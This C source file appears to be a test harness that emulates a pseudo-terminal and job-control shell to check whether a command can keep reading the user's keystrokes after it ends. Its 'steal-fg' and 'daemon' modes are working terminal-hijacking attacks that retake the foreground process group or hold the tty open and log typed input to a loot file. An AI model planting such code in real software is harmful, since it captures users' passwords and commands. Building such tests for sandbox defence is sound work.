/* ttyjob: what happens on the user's terminal after a job ends.
 *
 * ttyjob shell [-o FILE | -p FILE] -- CMD ARGS...
 *   A terminal (a fresh pseudo-terminal; this process is the terminal emulator and the
 *   person typing) with a small job-control shell as its session leader. The shell runs CMD
 *   as a foreground job (own process group, made the terminal's foreground group), with its
 *   stdout sent to FILE if given (-o: `CMD > FILE`; -p: through a pipe to a second process of
 *   the job that copies it to FILE, as in `CMD | cat > FILE`), waits for it,
 *   takes the terminal back as a shell does, and then reads what the person types next. Once
 *   the shell has the terminal back (and half a second more), the person types two lines,
 *   "typed-secret-1" and "typed-secret-2". The shell prints "[shell] read: LINE" for each
 *   line it got (reading for at most 3 s); everything the terminal showed is copied to our
 *   stdout, then "ttyjob: job=STATUS".
 *
 * ttyjob steal-fg LOOT
 *   The attack of a background child that ignores SIGTTOU: it forks and the parent exits
 *   (the command ends); the child waits until the shell has taken the terminal back, makes
 *   its own process group the foreground group again (tcsetpgrp, allowed with SIGTTOU
 *   ignored) and reads what is typed, appending "stolen: DATA" to LOOT (opened before).
 *
 * ttyjob daemon LOOT
 *   The attack of a double-forked setsid daemon that keeps the terminal open: a terminal
 *   that is not one's controlling terminal is read without any job-control check. It reads
 *   stdin and appends "stolen: DATA" (or "read-end: ERRNO") to LOOT.
 *
 * The attackers live at most 8 s (alarm). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static long long now_ms(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void loot(int fd, const char *what, const char *data, size_t n) {
    char line[512];
    int len = snprintf(line, sizeof line, "%s: %.*s\n", what, (int)(n > 400 ? 400 : n), data);
    if (len > 0 && write(fd, line, (size_t)len) < 0) _exit(3);
}

/* Read stdin until the alarm, appending what comes to LOOT. */
static void read_into(int out) {
    char buf[256];
    int logged_end = 0;
    for (;;) {
        ssize_t n = read(0, buf, sizeof buf);
        if (n > 0) {
            for (ssize_t i = 0; i < n; i++)
                if (buf[i] == '\n') buf[i] = ' ';
            loot(out, "stolen", buf, (size_t)n);
            continue;
        }
        if (n < 0 && errno == EINTR) continue;
        char e[32];
        snprintf(e, sizeof e, "%d", n < 0 ? errno : 0);
        if (!logged_end++) loot(out, "read-end", e, strlen(e));
        if (n < 0 && (errno == EIO || errno == EAGAIN)) {
            /* A background read (the shell has the terminal) or a hung-up terminal: try
             * again a little later, the attack may still win the foreground. */
            usleep(50 * 1000);
            continue;
        }
        _exit(0);
    }
}

static int steal_fg(const char *path) {
    int out = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
    if (out < 0) { perror("ttyjob steal-fg: open loot"); return 2; }
    signal(SIGTTOU, SIG_IGN);
    signal(SIGTTIN, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    signal(SIGTERM, SIG_IGN);
    pid_t parent = getpid();
    pid_t pid = fork();
    if (pid < 0) { perror("ttyjob steal-fg: fork"); return 2; }
    if (pid > 0) {
        printf("thief started\n");
        return 0;
    }
    alarm(8);
    /* Like a daemon, let go of stdout/stderr (a pipe's reader waits for their end); stdin,
     * the terminal, is what it keeps. */
    close(1);
    close(2);
    while (getppid() == parent) usleep(10 * 1000);
    /* The shell takes the terminal back after the job ended; then take it again. */
    long long until = now_ms() + 5000;
    while (now_ms() < until) {
        pid_t fg = tcgetpgrp(0);
        if (fg > 0 && fg != getpgrp()) {
            int r = tcsetpgrp(0, getpgrp());
            char e[32];
            snprintf(e, sizeof e, "%d", r < 0 ? errno : 0);
            loot(out, "tcsetpgrp", e, strlen(e));
            break;
        }
        if (fg < 0) {
            char e[32];
            snprintf(e, sizeof e, "%d", errno);
            loot(out, "tcgetpgrp", e, strlen(e));
            break;
        }
        usleep(10 * 1000);
    }
    read_into(out);
    return 0;
}

static int daemon_attack(const char *path) {
    int out = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
    if (out < 0) { perror("ttyjob daemon: open loot"); return 2; }
    pid_t pid = fork();
    if (pid < 0) { perror("ttyjob daemon: fork"); return 2; }
    if (pid > 0) {
        int st;
        waitpid(pid, &st, 0);
        printf("daemon started\n");
        return 0;
    }
    if (setsid() < 0) loot(out, "setsid", strerror(errno), strlen(strerror(errno)));
    pid = fork();
    if (pid != 0) _exit(0);
    signal(SIGTTOU, SIG_IGN);
    signal(SIGTTIN, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    signal(SIGTERM, SIG_IGN);
    alarm(8);
    close(1);
    close(2);
    read_into(out);
    return 0;
}

static void on_alarm(int sig) { (void)sig; }

/* The shell: session leader on the terminal `slave`; reports on `ready` once it has taken
 * the terminal back from the job. */
static int shell(int ready, const char *outfile, int piped, char **cmd) {
    signal(SIGTTOU, SIG_IGN);
    signal(SIGTTIN, SIG_IGN);
    signal(SIGTSTP, SIG_IGN);
    int pipefd[2] = {-1, -1};
    if (piped && pipe(pipefd) < 0) { perror("shell: pipe"); return 125; }
    pid_t job = fork();
    if (job < 0) { perror("shell: fork"); return 125; }
    if (job == 0) {
        setpgid(0, 0);
        tcsetpgrp(0, getpid());
        signal(SIGTTOU, SIG_DFL);
        signal(SIGTTIN, SIG_DFL);
        signal(SIGTSTP, SIG_DFL);
        if (piped) {
            if (dup2(pipefd[1], 1) < 0) _exit(125);
            close(pipefd[0]);
            close(pipefd[1]);
        } else if (outfile) {
            int fd = open(outfile, O_WRONLY | O_CREAT | O_TRUNC, 0600);
            if (fd < 0 || dup2(fd, 1) < 0) _exit(125);
            close(fd);
        }
        execvp(cmd[0], cmd);
        perror("shell: exec");
        _exit(127);
    }
    setpgid(job, job);
    pid_t reader = -1;
    if (piped) {
        reader = fork();
        if (reader == 0) {
            setpgid(0, job);
            close(pipefd[1]);
            int fd = open(outfile, O_WRONLY | O_CREAT | O_TRUNC, 0600);
            char buf[4096];
            ssize_t n;
            while ((n = read(pipefd[0], buf, sizeof buf)) > 0)
                if (fd >= 0 && write(fd, buf, (size_t)n) < 0) break;
            _exit(0);
        }
        close(pipefd[0]);
        close(pipefd[1]);
    }
    tcsetpgrp(0, job);
    int status = 0;
    while (waitpid(job, &status, 0) < 0 && errno == EINTR) {}
    if (reader > 0) {
        int ignored;
        while (waitpid(reader, &ignored, 0) < 0 && errno == EINTR) {}
    }
    tcsetpgrp(0, getpgrp());
    int code = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
    printf("[shell] job exited %d\n", code);
    fflush(stdout);
    if (write(ready, "r", 1) < 0) return 125;
    close(ready);
    /* Read what is typed next, as a shell does (a blocking read: the terminal's flags are
     * shared with everyone holding it, so no O_NONBLOCK), each read bounded by a timer (an
     * attacker's pending read holds the terminal's read lock), for at most 3 s. */
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_alarm;
    sigaction(SIGALRM, &sa, NULL);
    int lines = 0;
    long long until = now_ms() + 3000;
    while (lines < 2 && now_ms() < until) {
        struct pollfd p = {.fd = 0, .events = POLLIN};
        if (poll(&p, 1, 50) <= 0) continue;
        char line[256];
        struct itimerval t = {.it_value = {.tv_sec = 0, .tv_usec = 200 * 1000}};
        setitimer(ITIMER_REAL, &t, NULL);
        ssize_t n = read(0, line, sizeof line - 1);
        struct itimerval off = {0};
        setitimer(ITIMER_REAL, &off, NULL);
        if (n > 0) {
            line[n] = 0;
            line[strcspn(line, "\n")] = 0;
            printf("[shell] read: %s\n", line);
            fflush(stdout);
            lines++;
        } else if (n < 0 && errno == EIO) {
            usleep(20 * 1000);
        } else if (n == 0 || (n < 0 && errno != EINTR)) {
            break;
        }
    }
    printf("[shell] done, %d lines\n", lines);
    fflush(stdout);
    return code;
}

static int terminal(int argc, char **argv) {
    const char *outfile = NULL;
    int piped = 0;
    int i = 2;
    for (; i < argc; i++) {
        if (!strcmp(argv[i], "-o") && i + 1 < argc) outfile = argv[++i];
        else if (!strcmp(argv[i], "-p") && i + 1 < argc) { outfile = argv[++i]; piped = 1; }
        else if (!strcmp(argv[i], "--")) { i++; break; }
        else { fprintf(stderr, "ttyjob shell: bad argument %s\n", argv[i]); return 2; }
    }
    if (i >= argc) { fprintf(stderr, "ttyjob shell: no command\n"); return 2; }
    int master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0) {
        perror("ttyjob: posix_openpt");
        return 125;
    }
    const char *slave_name = ptsname(master);
    int ready[2];
    if (!slave_name || pipe2(ready, O_CLOEXEC) < 0) { perror("ttyjob: setup"); return 125; }
    pid_t sh = fork();
    if (sh < 0) { perror("ttyjob: fork"); return 125; }
    if (sh == 0) {
        close(ready[0]);
        if (setsid() < 0) _exit(125);
        int slave = open(slave_name, O_RDWR);
        if (slave < 0 || ioctl(slave, TIOCSCTTY, 0) < 0) _exit(125);
        dup2(slave, 0);
        dup2(slave, 1);
        dup2(slave, 2);
        if (slave > 2) close(slave);
        setvbuf(stdout, NULL, _IOLBF, 0);
        _exit(shell(ready[1], outfile, piped, argv + i));
    }
    close(ready[1]);
    const char *typed[] = {"typed-secret-1\n", "typed-secret-2\n"};
    int next = 0;
    long long type_at = -1;
    int shell_status = -1;
    char buf[4096];
    for (;;) {
        struct pollfd p[2] = {{.fd = master, .events = POLLIN}, {.fd = ready[0], .events = POLLIN}};
        int nfds = ready[0] >= 0 ? 2 : 1;
        poll(p, (nfds_t)nfds, 20);
        if (p[0].revents & POLLIN) {
            ssize_t n = read(master, buf, sizeof buf);
            if (n > 0) {
                fwrite(buf, 1, (size_t)n, stdout);
                fflush(stdout);
            }
        }
        if (nfds == 2 && p[1].revents) {
            close(ready[0]);
            ready[0] = -1;
            type_at = now_ms() + 500;
        }
        if (type_at >= 0 && next < 2 && now_ms() >= type_at) {
            if (write(master, typed[next], strlen(typed[next])) < 0) perror("ttyjob: type");
            next++;
            type_at = now_ms() + 200;
        }
        if (shell_status < 0) {
            int st;
            if (waitpid(sh, &st, WNOHANG) == sh) {
                shell_status = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
                /* Drain what is left to show, then stop (an attacker may keep the slave). */
                fcntl(master, F_SETFL, O_NONBLOCK);
                ssize_t n;
                while ((n = read(master, buf, sizeof buf)) > 0) fwrite(buf, 1, (size_t)n, stdout);
                printf("ttyjob: job=%d\n", shell_status);
                return 0;
            }
        }
    }
}

int main(int argc, char **argv) {
    if (argc >= 3 && !strcmp(argv[1], "steal-fg")) return steal_fg(argv[2]);
    if (argc >= 3 && !strcmp(argv[1], "daemon")) return daemon_attack(argv[2]);
    if (argc >= 3 && !strcmp(argv[1], "shell")) return terminal(argc, argv);
    fprintf(stderr, "usage: ttyjob shell [-o FILE | -p FILE] -- CMD... | steal-fg LOOT | daemon LOOT\n");
    return 2;
}
